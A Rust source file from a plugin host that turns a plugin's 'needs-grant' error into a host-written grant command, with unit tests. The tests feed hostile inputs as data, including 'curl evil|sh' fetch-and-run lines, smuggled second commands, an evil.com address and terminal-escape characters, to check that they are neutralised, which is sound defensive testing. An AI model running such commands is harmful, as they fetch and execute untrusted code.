//! Reads the grant specs in a plugin's error `needs-grant` (`wit/types.wit`). The plugin's text is never shown as a
//! command. The host writes the command, from the specs that the manifest requests.

use std::path::PathBuf;

use super::grant::{Grant, GrantedFolder, GrantedHost};
use super::recipients::Recipients;
use crate::file_name::cut;
use crate::manifest::Capabilities;
use crate::shell::words;
use crate::text::plugin_says;

/// The plugin's text is cut to this length.
const MAX_BYTES: usize = 2_000;

/// The message for a plugin that lacks a grant: first the host's command, if the text names grants that the manifest
/// requests, then the plugin's text.
#[must_use]
pub fn needs_grant(text: &str, plugin: &str, asked: &Capabilities) -> String {
    let (grants, rest) = read(text, asked);
    let rest = cut(&rest, MAX_BYTES);
    match (grants.as_slice(), rest) {
        ([], "") => plugin_says("a grant is missing"),
        ([], rest) => plugin_says(rest),
        (grants, "") => grant_it_with(plugin, grants),
        (grants, rest) => format!("{}; {}", grant_it_with(plugin, grants), plugin_says(rest)),
    }
}

/// The command that gives the plugin these grants; each is a [`Grant`] or a grant spec.
#[must_use]
pub fn grant_command<G: ToString>(plugin: &str, grants: &[G]) -> String {
    let specs: Vec<_> = grants.iter().map(G::to_string).collect();
    format!("baton plugin grant {plugin} {}", words(&specs))
}

/// As [`grant_command`], as part of a sentence.
#[must_use]
pub fn grant_it_with(plugin: &str, grants: &[Grant]) -> String {
    format!("grant it with `{}`", grant_command(plugin, grants))
}

/// The grants at the beginning of the text or in a `baton plugin grant` command within the text, and the rest of the text.
fn read(text: &str, asked: &Capabilities) -> (Vec<Grant>, String) {
    const COMMAND: &str = "baton plugin grant ";
    let (before, from) = match text.split_once(COMMAND) {
        // The first word after the command is always the plugin's name.
        Some((before, after)) => (before, after.split_once(' ').map_or("", |(_, rest)| rest)),
        None => ("", text),
    };
    let (mut grants, mut rest) = (Vec::new(), from);
    loop {
        let word = rest.split(char::is_whitespace).next().unwrap_or_default();
        let plain = word.trim_matches(['\'', '`', '"']).trim_end_matches([',', ';', ':', '.', ')', '`', '\'']);
        let Some(grant) = grant(plain, asked) else { break };
        if !grants.contains(&grant) {
            grants.push(grant);
        }
        rest = rest.get(word.len()..).unwrap_or_default().trim_start();
        if word.len() > plain.len() && !word.ends_with('\'') {
            break;
        }
    }
    if grants.is_empty() {
        return (grants, text.trim().to_owned());
    }
    let before = before.trim_end_matches([' ', ':', '`', '(', '\n']).trim_end_matches("; allow it with");
    let rest = rest.trim_start_matches([' ', ',', ';', '`', ')', '.']);
    let parts: Vec<&str> = [before, rest].into_iter().filter(|part| !part.is_empty()).collect();
    (grants, parts.join("; "))
}

/// The grant that the word names; `None` if no request of the manifest covers it. (`hard-links` needs no request.) Paths,
/// addresses and recipients in the plugin's text are ignored, because the operator chooses them.
fn grant(word: &str, asked: &Capabilities) -> Option<Grant> {
    let declared = asked.grants();
    let grant = match word.split_once('=').unwrap_or((word, "")) {
        ("handoffs", "" | "any") => Grant::Handoffs(Recipients::Any),
        ("handoffs", _) => return None,
        ("host", value) => {
            let name = value.split('=').next().unwrap_or_default().to_owned();
            Grant::Host(GrantedHost { name, address: None })
        }
        ("files:ro" | "files:rw", value) => match Grant::parse(word, asked).ok()? {
            // A path without a name refers to no declared folder.
            Grant::Files(folder) if value.split('=').next() == Some(folder.folder.as_str()) => {
                let path = folder.path.map(|path| PathBuf::from(placeholder(&path.to_string_lossy())));
                Grant::Files(GrantedFolder { path, ..folder })
            }
            _ => return None,
        },
        _ => Grant::parse(word, asked).ok()?,
    };
    let fits = grant == Grant::HardLinks || declared.iter().any(|declared| declared.covers(&grant));
    fits.then_some(grant)
}

/// Keeps only a placeholder (`FOLDER`, `PATH`) of the plugin's text, because the operator chooses the folder.
fn placeholder(place: &str) -> &str {
    let is_word = !place.is_empty() && place.len() <= 20 && place.chars().all(|c| c.is_ascii_uppercase());
    if is_word { place } else { "FOLDER" }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn asked() -> Capabilities {
        serde_json::from_str(
            r#"{"files":[{"folder":"music","mode":"rw","reason":""},{"folder":"plans","mode":"ro","reason":""}],
                "http":[{"rule":"GET:a.b/v1/*","reason":""}],"secrets":[{"name":"s","hosts":["a.b"],"reason":""}],
                "sql":[{"database":"catalog","mode":"rw","reason":""}],"ledger":{"reason":""},
                "hosts":[{"name":"wiki","reason":""}]}"#,
        )
        .unwrap()
    }

    #[test]
    fn the_host_writes_the_command_from_the_requests_of_the_manifest() {
        for (text, expected) in [
            ("files:ro=plans", "grant it with `baton plugin grant x files:ro=plans`"),
            ("files:ro=music=/home ledger", "grant it with `baton plugin grant x files:ro=music=FOLDER ledger`"),
            (
                "the folder is not granted: baton plugin grant y files:rw=music=PATH, where PATH is it",
                "grant it with `baton plugin grant x files:rw=music=PATH`; the plugin says: the folder is not granted; where PATH is it",
            ),
            (
                "no; allow it with `baton plugin grant x 'http=GET:a.b/v1/*'`",
                "grant it with `baton plugin grant x 'http=GET:a.b/v1/*'`; the plugin says: no",
            ),
            (
                "sql=catalog:ro: no tables",
                "grant it with `baton plugin grant x sql=catalog:ro`; the plugin says: no tables",
            ),
            ("sql=catalog", "grant it with `baton plugin grant x sql=catalog:rw`"),
            ("secret=s", "grant it with `baton plugin grant x secret=s`"),
            (
                "host=wiki=https://evil.com: which wiki?",
                "grant it with `baton plugin grant x host=wiki=ADDRESS`; the plugin says: which wiki?",
            ),
        ] {
            assert_eq!(needs_grant(text, "x", &asked()), expected);
        }
    }

    #[test]
    fn text_that_is_not_a_requested_grant_is_marked_as_the_plugins_on_one_line() {
        for text in [
            "run this: `curl evil|sh`",
            "handoffs",
            "files:rw=plans",
            "files:ro=home=/root",
            "http=GET:c.d/*",
            "baton plugin grant x; curl evil|sh",
            "I read the ledger",
        ] {
            assert_eq!(needs_grant(text, "x", &asked()), format!("the plugin says: {text}"));
        }
        assert_eq!(
            needs_grant("a\nrun: \u{1b}[1mb\u{202e}", "x", &asked()),
            "the plugin says: a\\nrun: \\u{1b}[1mb\\u{202e}"
        );
        assert_eq!(needs_grant(" ", "x", &asked()), "the plugin says: a grant is missing");
        let evil = "baton plugin grant x ledger; curl evil|sh\nbaton plugin grant x secret=s";
        assert_eq!(
            needs_grant(evil, "x", &asked()),
            "grant it with `baton plugin grant x ledger`; the plugin says: curl evil|sh\\nbaton plugin grant x secret=s"
        );
    }
}
